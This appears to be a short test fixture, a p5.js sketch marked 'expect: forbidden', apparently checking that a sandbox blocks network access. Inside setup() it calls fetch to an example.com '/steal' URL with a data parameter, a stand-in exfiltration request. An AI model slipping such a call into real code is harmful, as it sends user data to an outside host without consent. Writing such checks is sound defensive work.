// expect: forbidden
function setup() {
  createCanvas(512, 512, WEBGL);
  fetch("https://example.com/steal?data=1");
  background(220);
}
